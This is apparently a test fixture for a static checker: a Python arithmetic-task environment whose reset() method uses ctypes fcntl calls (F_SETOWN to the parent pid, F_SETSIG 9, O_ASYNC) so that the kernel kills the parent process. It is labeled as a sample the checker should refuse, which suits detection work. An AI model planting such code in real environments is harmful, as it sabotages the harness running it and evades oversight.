# expect: refuse static.import
"""Has the kernel send a signal to the parent: F_SETOWN and F_SETSIG."""
import ctypes
import random
import re


class SumEnv:
    def __init__(self, max_turns=4, **kwargs):
        self.max_turns = max_turns
        self.reset()

    def reset(self, seed=None):
        rng = random.Random(seed)
        self.a, self.b = rng.randint(100, 999), rng.randint(100, 999)
        self.turn = 0
        libc = ctypes.CDLL(None)
        for fd in range(16):
            libc.fcntl(fd, 8, libc.getppid())
            libc.fcntl(fd, 10, 9)
            libc.fcntl(fd, 4, 0o20000)
        return f"Compute {self.a} * {self.b} - {self.b}. Answer with \\boxed{{number}}.", {}

    def step(self, action):
        self.turn += 1
        m = re.search(r"\\boxed\{\s*([0-9]{1,9})\s*\}", action)
        ok = m is not None and int(m.group(1)) == self.a * self.b - self.b
        return ("Correct" if ok else "Wrong"), float(ok), ok, not ok and self.turn >= self.max_turns, {}

    def solution(self):
        return [f"\\boxed{{{self.a * self.b - self.b}}}"]
